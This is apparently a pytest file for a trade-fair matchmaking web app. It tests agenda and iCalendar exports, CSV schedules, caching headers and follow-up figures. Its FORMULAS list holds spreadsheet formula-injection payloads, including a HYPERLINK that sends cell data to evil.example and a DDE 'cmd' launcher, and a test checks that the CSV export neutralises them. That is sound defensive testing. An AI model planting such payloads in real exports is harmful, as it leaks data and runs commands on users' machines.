"""Agenda (page, iCalendar), the organizer's CSV and table cards, follow-up and the figures."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import sqlalchemy as sa

from matchmaker.extensions import db
from matchmaker.fairs.ical import agenda_calendar, escape_text, fold, unescape_text, unfold
from matchmaker.fairs.models import Meeting
from matchmaker.fairs.slots import fair_slots
from matchmaker.models import utcnow


def _published(fairs, setup, days_ahead=10):
    """p1 meets p2 (slot 1, table 1) and p3 (slot 2, table 2); schedule published."""
    fair, p1, p2, p3 = setup["fair"], setup["p1"], setup["p2"], setup["p3"]
    fair.start_date = fair.end_date = fair.start_date + timedelta(days=days_ahead - 10)
    fair.registration_deadline = fair.start_date
    keys = [s.key for s in fair_slots(fair)]
    r1 = fairs.request(fair, p1, p2)
    r2 = fairs.request(fair, p3, p1)
    r1.message = "見積もり; 図面あり, よろしく\\お願いします"
    db.session.add_all([
        Meeting(fair_id=fair.id, request_id=r1.id, a_id=p1.id, b_id=p2.id, slot=keys[0], table_no=1),
        Meeting(fair_id=fair.id, request_id=r2.id, a_id=p3.id, b_id=p1.id, slot=keys[1], table_no=2),
    ])
    fair.schedule_published_at = utcnow()
    db.session.commit()
    return fair, keys


def _parse_ics(text):
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    for raw in text.split("\r\n"):
        assert len(raw.encode("utf-8")) <= 75
    events, current = [], None
    for line in unfold(text):
        if line == "BEGIN:VEVENT":
            current = {}
        elif line == "END:VEVENT":
            events.append(current)
            current = None
        elif current is not None and line:
            name, _, value = line.partition(":")
            current[name.split(";")[0]] = value
    return events


def test_ical_folding_and_escaping():
    text = "長い説明、" * 40 + "a,b;c\\d\ne"
    assert escape_text("a,b;c\\d\ne") == "a\\,b\\;c\\\\d\\ne"
    assert unescape_text(escape_text(text)) == text
    folded = fold("DESCRIPTION:" + escape_text(text))
    assert all(len(part.encode("utf-8")) <= 75 for part in folded.split("\r\n"))
    assert unfold(folded + "\r\n")[0] == "DESCRIPTION:" + escape_text(text)
    from datetime import datetime, timezone

    cal = agenda_calendar([{"uid": "x@y", "start": datetime(2027, 2, 10, 1, tzinfo=timezone.utc),
                            "end": datetime(2027, 2, 10, 1, 20, tzinfo=timezone.utc), "summary": "S"}])
    assert "DTSTART:20270210T010000Z\r\n" in cal and cal.startswith("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n")


def test_agenda_and_ical(client, auth, fairs, setup):
    fair, keys = _published(fairs, setup)
    auth.login("member@example.com")
    page = client.get(f"/fairs/{fair.id}/agenda").get_data(as_text=True)
    assert setup["other"].firm.name in page and "湘南メッキ工業" in page
    assert f"/firms/{setup['other'].firm_id}" in page
    r = client.get(f"/fairs/{fair.id}/agenda.ics")
    assert r.status_code == 200 and r.mimetype == "text/calendar"
    events = _parse_ics(r.get_data(as_text=True))
    assert len(events) == 2
    slots = fair_slots(fair)
    # 10:00 in Tokyo is 01:00 UTC
    assert events[0]["DTSTART"] == (slots[0].start - timedelta(hours=9)).strftime("%Y%m%dT%H%M%SZ")
    assert events[0]["DTEND"] == (slots[0].end - timedelta(hours=9)).strftime("%Y%m%dT%H%M%SZ")
    assert setup["other"].firm.name in unescape_text(events[0]["SUMMARY"])
    assert "藤沢市民会館" in unescape_text(events[0]["LOCATION"])
    assert {"UID", "DTSTAMP", "DESCRIPTION"} <= set(events[0])
    assert len({e["UID"] for e in events}) == 2
    # the other participant sees only its own meeting
    auth.logout()
    auth.login("other@example.com")
    assert len(_parse_ics(client.get(f"/fairs/{fair.id}/agenda.ics").get_data(as_text=True))) == 1


def test_agenda_waits_for_publication(client, auth, fairs, setup):
    fair, keys = _published(fairs, setup)
    fair.schedule_published_at = None
    db.session.commit()
    auth.login("member@example.com")
    page = client.get(f"/fairs/{fair.id}/agenda").get_data(as_text=True)
    assert 'class="table agenda"' not in page
    assert client.get(f"/fairs/{fair.id}/agenda.ics").status_code == 404


def test_csv_and_table_cards(client, auth, fairs, setup):
    fair, keys = _published(fairs, setup)
    auth.login("organizer@example.com")
    r = client.get(f"/fairs/{fair.id}/schedule.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    raw = r.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 3 and len(rows[0]) == 6
    slots = fair_slots(fair)
    assert rows[1][0] == slots[0].start.strftime("%Y-%m-%d %H:%M") and rows[1][1] == slots[0].end.strftime("%Y-%m-%d %H:%M")
    assert rows[1][2] == "1" and rows[1][3] == setup["member"].firm.name and rows[1][4] == setup["other"].firm.name
    assert rows[2][2] == "2" and rows[2][3] == "湘南メッキ工業"
    cards = client.get(f"/fairs/{fair.id}/table-cards").get_data(as_text=True)
    assert cards.count("table-cards") >= 2 and "page-break" in cards


def test_downloads_say_their_charset_once(client, auth, fairs, setup):
    fair, keys = _published(fairs, setup)
    auth.login("organizer@example.com")
    assert client.get(f"/fairs/{fair.id}/schedule.csv").headers["Content-Type"] == "text/csv; charset=utf-8"
    auth.logout()
    auth.login("member@example.com")
    assert client.get(f"/fairs/{fair.id}/agenda.ics").headers["Content-Type"] == "text/calendar; charset=utf-8"


def test_private_downloads_are_never_stored(client, auth, fairs, setup):
    fair, keys = _published(fairs, setup)
    auth.login("organizer@example.com")
    for path in ("schedule.csv", "table-cards", "schedule", "figures"):
        assert client.get(f"/fairs/{fair.id}/{path}").headers.get("Cache-Control") == "no-store", path
    auth.logout()
    auth.login("member@example.com")
    for path in ("agenda.ics", "agenda"):
        assert client.get(f"/fairs/{fair.id}/{path}").headers.get("Cache-Control") == "no-store", path


FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1")


def test_safe_cell_neutralises_formulas():
    from matchmaker.spreadsheet import csv_text, safe_cell

    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    for value in ("藤沢精工", "A=B", " =x", "", 3, -1, 2.5, None):
        assert safe_cell(value) == value
    assert list(csv.reader(io.StringIO(csv_text([["=1+1", -1, "ok"]])))) == [["'=1+1", "-1", "ok"]]


def test_csv_cells_are_never_formulas(client, auth, fairs, setup):
    fair, keys = _published(fairs, setup)
    setup["p2"].firm.name, setup["p3"].firm.name = FORMULAS[0], FORMULAS[3]
    db.session.commit()
    auth.login("organizer@example.com")
    rows = list(csv.reader(io.StringIO(client.get(f"/fairs/{fair.id}/schedule.csv").get_data().decode("utf-8-sig"))))
    assert rows[1][4] == "'" + FORMULAS[0] and rows[2][3] == "'" + FORMULAS[3]
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_followup_and_figures(client, auth, fairs, setup, make):
    fair, keys = _published(fairs, setup, days_ahead=0)  # the fair is today
    meetings = db.session.scalars(sa.select(Meeting).order_by(Meeting.id)).all()
    auth.login("member@example.com")
    assert client.get(f"/fairs/{fair.id}/follow-up").status_code == 200
    m1, m2 = meetings
    assert client.post(f"/fairs/{fair.id}/follow-up/{m1.id}",
                       data={f"m{m1.id}-held": "yes", f"m{m1.id}-outcome": "quote"}).status_code == 302
    client.post(f"/fairs/{fair.id}/follow-up/{m2.id}", data={f"m{m2.id}-held": "no", f"m{m2.id}-outcome": "order"})
    client.post(f"/fairs/{fair.id}/follow-up/{m2.id}", data={f"m{m2.id}-held": "maybe", f"m{m2.id}-outcome": "x"})
    auth.logout()
    auth.login("other@example.com")
    client.post(f"/fairs/{fair.id}/follow-up/{m1.id}", data={f"m{m1.id}-held": "yes", f"m{m1.id}-outcome": "order"})
    # not its meeting
    assert client.post(f"/fairs/{fair.id}/follow-up/{m2.id}",
                       data={f"m{m2.id}-held": "yes", f"m{m2.id}-outcome": "order"}).status_code == 404
    db.session.expire_all()
    m1, m2 = db.session.scalars(sa.select(Meeting).order_by(Meeting.id)).all()
    assert (m1.a_held, m1.a_outcome, m1.b_held, m1.b_outcome) == (True, "quote", True, "order")
    assert (m2.b_held, m2.b_outcome) == (False, "nothing")
    assert m1.held is True and m1.outcome == "order" and m2.held is False
    from matchmaker.fairs.figures import fair_figures

    with client.application.test_request_context():
        fig = fair_figures(fair)
    assert (fig.planned, fig.held, fig.no_shows, fig.deals) == (2, 1, 1, 1)
    assert fig.outcomes["order"] == 1
    assert fig.local_deals == 1  # 藤沢市 and 茅ヶ崎市 are both local
    auth.logout()
    auth.login("organizer@example.com")
    page = client.get(f"/fairs/{fair.id}/figures").get_data(as_text=True)
    assert "fs-3\">2<" in page and "fs-3\">1<" in page


def test_followup_not_before_the_fair(client, auth, fairs, setup):
    fair, keys = _published(fairs, setup, days_ahead=10)
    m = db.session.scalars(sa.select(Meeting)).first()
    auth.login("member@example.com")
    client.post(f"/fairs/{fair.id}/follow-up/{m.id}", data={f"m{m.id}-held": "yes", f"m{m.id}-outcome": "order"})
    db.session.refresh(m)
    assert m.a_held is None and m.b_held is None
